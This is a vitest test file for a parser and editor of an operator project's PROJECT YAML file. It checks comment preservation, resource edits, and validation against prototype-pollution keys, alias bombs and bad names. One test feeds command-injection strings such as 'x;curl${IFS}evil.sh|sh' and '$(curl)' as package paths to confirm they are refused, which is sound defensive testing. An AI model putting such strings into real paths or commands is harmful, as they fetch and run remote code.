import { usualParts } from '../../src/project/parts.js';
import { describe, expect, it } from 'vitest';
import { DiagnosticsError } from '../../src/base/diagnostics/diagnostic.js';
import { newProjectText, putResource } from '../../src/project/project-edit.js';
import { parseProject, type ProjectFile } from '../../src/project/project-file.js';
import type { ProjectResource } from '../../src/project/project.js';
import { editedText } from '../support/edited-project.js';

const text = `# kept
cliVersion: 0.1.0
domain: example.com # kept too
layout:
- typescript.operator-gen/v1
plugins:
  somebody.else/v1:
    key: value
projectName: shop
resources:
# the first
- api:
    crdVersion: v1
    namespaced: true
  controller: true
  domain: example.com
  group: shop
  kind: Order
  path: somewhere
  version: v1
unknown: [ 1,   2 ]
version: "3"
`;

const withResource = (file: ProjectFile, resource: ProjectResource): string =>
  editedText(file, (edit) => putResource(edit, resource));

function problems(changed: string): string[] {
  try {
    parseProject(changed);
    return [];
  } catch (error) {
    if (!(error instanceof DiagnosticsError)) throw error;
    return error.diagnostics.map(({ code, position }) => `${code} ${position?.line}:${position?.column}`);
  }
}

describe('PROJECT', () => {
  it('is read', () => {
    expect(parseProject(text).project).toEqual({
      domain: 'example.com',
      projectName: 'shop',
      multigroup: false,
      namespaced: false,
      permissions: 'declared',
      resources: [
        {
          api: { crdVersion: 'v1', namespaced: true },
          controllers: [{}],
          domain: 'example.com',
          group: 'shop',
          kind: 'Order',
          version: 'v1',
        },
      ],
      manifests: {},
      certificates: 'cert-manager',
      parts: usualParts(),
      places: new Map([['shop.example.com/v1/Order', { file: 'PROJECT', line: 18, column: 9, length: 5 }]]),
    });
  });

  it('gets a resource and keeps everything else: comments, unknown keys, their form', () => {
    const added = withResource(parseProject(text), {
      group: 'shop',
      domain: 'example.com',
      version: 'v1',
      kind: 'Admiral',
      plural: 'admirales',
      controllers: [],
      api: {
        crdVersion: 'v1',
        namespaced: false,
      },
    });
    const entry = `- api:
    crdVersion: v1
  domain: example.com
  group: shop
  kind: Admiral
  plural: admirales
  version: v1
`;
    expect(added.replace(entry, '')).toBe(text);
    expect(parseProject(added).project.resources[1]).toMatchObject({ kind: 'Admiral', plural: 'admirales' });
  });

  it('of a new project can be read and added to', () => {
    const made = newProjectText({ domain: 'my.domain', projectName: 'x' }, '0.1.0');
    const added = withResource(parseProject(made), {
      domain: 'my.domain',
      version: 'v1',
      kind: 'WebServer',
      controllers: [{}],
    });
    expect(parseProject(added).project.resources).toHaveLength(1);
    expect(added.trimEnd().split('\n').at(-1)).toBe('version: "3"');
  });

  it('brings an entry up to date and keeps what else it says', () => {
    const annotated = text
      .replace('    namespaced: true\n', '    namespaced: true # mine\n    ssa: true\n')
      .replace('  controller: true\n', '')
      .replace('  kind: Order\n', '  kind: Order # the kind\n  plural: orderz\n');
    const parsed = parseProject(annotated);
    const [order] = parsed.project.resources;
    const changed = withResource(parsed, {
      group: 'shop',
      domain: 'example.com',
      version: 'v1',
      kind: 'Order',
      controllers: [{}],
      ...(order?.api === undefined ? {} : { api: order.api }),
    });
    expect(changed).toBe(
      text
        .replace('    namespaced: true\n', '    namespaced: true # mine\n    ssa: true\n')
        .replace('  kind: Order\n', '  kind: Order # the kind\n'),
    );
  });

  it('changes what is different in an entry, in its place', () => {
    const annotated = text.replace('  kind: Order\n', '  kind: Order\n  plural: orderz # by hand\n');
    const parsed = parseProject(annotated);
    const [order] = parsed.project.resources;
    const changed = withResource(parsed, { ...order!, plural: 'orden' });
    expect(changed).toBe(annotated.replace('orderz', 'orden'));
  });

  it.each(['x;curl${IFS}evil.sh|sh', "x'; import 'evil", 'x\ncurl', '$(curl)', '--force'])(
    'names no package of others as %j, which stands in code and in commands',
    (path) => {
      for (const from of ['external', 'core']) {
        const entry = `  ${from}: true\n  path: ${JSON.stringify(path)}`;
        const changed = text.replace('  path: somewhere', () => entry);
        expect(problems(changed)).toEqual(['invalid-project 20:9']);
      }
    },
  );

  it.each(['123', 'on', 'null', '1e3', '0x10', 'y'])(
    'of a project called %s says so, and not something else',
    (name) => {
      const made = newProjectText({ domain: '1.2', projectName: name }, '0.1.0');
      expect(parseProject(made).project).toMatchObject({ domain: '1.2', projectName: name });
    },
  );

  it.each(['__proto__', 'constructor', 'toString'])('may have a key called %s, which stays', (key) => {
    const hostile = text.replace('unknown:', `${key}:`);
    const added = withResource(parseProject(hostile), {
      domain: 'example.com',
      version: 'v1',
      kind: 'A',
      controllers: [{}],
    });
    expect(added).toContain(`${key}: [ 1,   2 ]`);
  });

  it('is refused, and not expanded, when its aliases would fill the memory', () => {
    const aliases = Array.from({ length: 9 }, (_, n) => `a${n + 1}: &a${n + 1} [${`*a${n},`.repeat(9)}]`);
    expect(problems(`a0: &a0 [x]\n${aliases.join('\n')}\n${text}`)).toEqual(['unreadable-project 1:1']);
  });

  it('names the length of what is wrong, for the carets', () => {
    try {
      parseProject(text.replace('domain: example.com #', 'domain: Example.com #'));
    } catch (error) {
      expect((error as DiagnosticsError).diagnostics[0]!.position).toEqual({
        file: 'PROJECT',
        line: 3,
        column: 9,
        length: 11,
      });
    }
    expect.assertions(1);
  });

  it('is distinguished from that of kubebuilder', () => {
    expect(() => parseProject(text.replace('typescript.operator-gen/v1', 'go.kubebuilder.io/v4'))).toThrow(
      "the unsupported layout go.kubebuilder.io/v4, which is kubebuilder's",
    );
  });

  it.each([
    ['domain: example.com # kept too', 'domain: Example.com', 'invalid-name 3:9'],
    ['layout:\n- typescript.operator-gen/v1\n', '', 'invalid-project 1:1'],
    ['crdVersion: v1', 'crdVersion: v1beta1', 'invalid-project 13:17'],
    ['  domain: example.com\n  group: shop\n', '  domain: local\n', 'invalid-name 16:11'],
    ['  group: shop', `  group: ${'a'.repeat(240)}`, 'invalid-name 17:10'],
    ['domain: example.com # kept too\n', '', 'invalid-project 1:1'],
    ['domain: example.com # kept too', 'domain: 7', 'invalid-project 3:9'],
    ['version: "3"', 'version: "4"', 'unsupported-project-version 22:10'],
    ['version: "3"', 'version: 2', 'unsupported-project-version 22:10'],
    ['version: "3"\n', '', 'invalid-project 1:1'],
    ['- typescript.operator-gen/v1', '- go.kubebuilder.io/v4', 'unsupported-layout 5:1'],
    ['  kind: Order', '  kind: or_der', 'invalid-name 18:9'],
    ['  version: v1\n', '  version: 1foo\n', 'invalid-name 20:12'],
    ['  kind: Order\n', '', 'invalid-project 12:3'],
    ['resources:\n', 'resources: x\nold:\n', 'invalid-project 10:12'],
    ['projectName: shop', 'projectName: shop\nprojectName: again', 'unreadable-project 10:1'],
    ['unknown: [ 1,   2 ]', 'unknown: [', 'unreadable-project 22:1'],
  ])('is refused where it was changed: %j', (before, after, problem) => {
    expect(problems(text.replace(before, after))).toEqual([problem]);
  });

  it('may not list a resource twice', () => {
    const entry = text.slice(text.indexOf('- api:'), text.indexOf('unknown'));
    expect(problems(text.replace(entry, entry + entry))).toEqual(['duplicate-resource 21:3']);
  });
});
